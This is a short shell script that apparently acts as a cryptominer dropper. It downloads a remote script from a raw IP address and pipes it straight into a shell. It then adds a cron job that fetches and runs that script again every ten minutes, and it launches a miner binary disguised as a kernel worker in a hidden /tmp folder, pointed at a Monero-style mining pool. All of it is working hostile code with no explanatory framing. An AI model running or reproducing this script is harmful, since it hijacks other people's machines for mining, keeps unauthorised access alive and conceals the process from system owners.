#!/bin/sh
curl -fsSL http://203.0.113.50/x.sh | bash
(crontab -l 2>/dev/null; echo "*/10 * * * * curl -s http://203.0.113.50/x.sh | sh") | crontab -
chmod +x /tmp/.cache/kworker
/tmp/.cache/kworker --pool pool.minexmr.example.com:4444
